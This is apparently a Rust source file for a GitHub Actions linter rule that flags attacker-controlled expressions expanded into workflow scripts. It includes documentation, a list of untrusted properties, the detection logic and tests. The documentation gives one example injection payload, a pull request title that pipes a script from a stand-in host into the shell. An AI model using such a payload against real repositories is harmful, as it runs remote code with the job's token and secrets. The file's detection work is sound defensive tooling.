//! GA015 `script-injection`: attacker-controlled text expanded into a script.

use crate::ci::common::Ctx;
use crate::ci::github::expr::{expressions, properties};
use crate::ci::github::model::Workflow;
use crate::yaml::Node;

declare_rule! {
    code: "GA015",
    name: "script-injection",
    severity: Error,
    summary: "Attacker-controlled `${{ github.event.* }}` or `github.head_ref` is expanded into a script.",
    help: "Pass the value through an environment variable: `env: {TITLE: ${{ github.event.pull_request.title }}}`, then use \"$TITLE\" (quoted) in the script.",
    references: [
        "actionlint:expression",
        "zizmor:template-injection",
        "checkov:CKV_GHA_2",
        "cwe:CWE-94",
    ],
    doc: r#"## What it does
Reports `${{ … }}` expressions in a `run:` script, or in the `script:` input of
`actions/github-script`, that read text an outsider controls: issue, pull request, comment,
review and discussion titles and bodies, `github.head_ref` and the PR head ref and label,
commit messages and author names and emails (`github.event.commits.*`, `head_commit`), wiki
page names, `workflow_run` head branch and commit, or a whole object holding one of them
(`toJSON(github.event)`). Arguments of `contains()`, `startsWith()` and `endsWith()` are not
reported: only a boolean reaches the script.

## Why is this bad?
Expressions are pasted into the script before the shell sees it. A pull request titled
`"; curl https://evil.example/x | sh; #` runs that command in your job, with its token and
secrets. An environment variable is data, never code: the shell does not re-parse its value.

## Example
```yaml
on: pull_request_target
jobs:
  greet:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "Thanks for ${{ github.event.pull_request.title }}"
```

Use instead:
```yaml
on: pull_request_target
jobs:
  greet:
    runs-on: ubuntu-24.04
    steps:
      - env:
          TITLE: ${{ github.event.pull_request.title }}
        run: echo "Thanks for $TITLE"
```

## References
- [Security hardening: understanding the risk of script injections](https://docs.github.com/actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
- [actionlint: expression (untrusted inputs)](https://github.com/rhysd/actionlint/blob/main/docs/checks.md)
- [zizmor: template-injection](https://docs.zizmor.sh/audits/#template-injection)
- [CWE-94: Code Injection](https://cwe.mitre.org/data/definitions/94.html)
"#,
}

/// Context properties whose text an outsider (a fork's author, a commenter) controls. `*`
/// matches one segment (an array index).
const UNTRUSTED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
];

/// Whether reading `segments` yields attacker-controlled text: an untrusted property itself
/// or an object containing one (`github.event.pull_request`, `github.event`, `github`).
pub(crate) fn is_untrusted(segments: &[String]) -> bool {
    UNTRUSTED.iter().any(|pattern| {
        let pattern: Vec<&str> = pattern.split('.').collect();
        segments.len() <= pattern.len()
            && segments
                .iter()
                .zip(&pattern)
                .all(|(s, p)| *p == "*" || s == "*" || s == p)
    })
}

/// Report untrusted expressions in scripts.
pub(crate) fn check(wf: &Workflow<'_>, ctx: &mut Ctx<'_>) {
    for job in &wf.jobs {
        for step in &job.steps {
            if let Some(run) = step.run {
                scan(run, "`run:` script", job.id, ctx);
            }
            let github_script = step
                .uses
                .and_then(|u| u.as_str())
                .is_some_and(|u| u.to_ascii_lowercase().starts_with("actions/github-script@"));
            if github_script && let Some(script) = step.input("script") {
                scan(script, "`actions/github-script` script", job.id, ctx);
            }
        }
    }
}

fn scan(node: &Node, place: &str, job: &str, ctx: &mut Ctx<'_>) {
    let Some(text) = node.as_str() else { return };
    for expr in expressions(text) {
        let Some(prop) = properties(expr.inner)
            .into_iter()
            .find(|p| !p.in_predicate && is_untrusted(&p.segments))
        else {
            continue;
        };
        let source = expr.source(text);
        let span = ctx.locate(node, expr.start, source);
        ctx.report(
            &RULE,
            span,
            format!(
                "`{}` is attacker-controlled and is expanded into the {place} of job `{job}`: it can inject commands",
                prop.dotted()
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn segs(dotted: &str) -> Vec<String> {
        dotted.split('.').map(str::to_string).collect()
    }

    #[test]
    fn untrusted_properties() {
        for yes in [
            "github.head_ref",
            "github.event.commits.*.message",
            "github.event.pull_request",
            "github.event",
            "github",
        ] {
            assert!(is_untrusted(&segs(yes)), "{yes}");
        }
        for no in [
            "github.event.pull_request.number",
            "github.event.pull_request.head.sha",
            "github.sha",
            "env.title",
        ] {
            assert!(!is_untrusted(&segs(no)), "{no}");
        }
    }
}
